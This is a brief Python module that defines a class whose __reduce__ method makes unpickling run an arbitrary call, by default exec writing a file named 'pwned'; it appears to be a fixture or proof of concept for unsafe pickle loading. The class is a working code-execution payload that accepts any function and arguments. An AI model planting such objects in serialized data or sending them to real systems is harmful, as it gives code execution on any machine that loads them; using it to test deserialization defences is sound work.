"""Objects that run code when a pickle of them is read the usual way."""


class RunsCode:
    """Pickled as a call, by default one that leaves a file `pwned` in the working directory."""

    def __init__(self, function=exec, *arguments):
        self.call = function, arguments or ("open('pwned', 'w')",)

    def __reduce__(self):
        return self.call
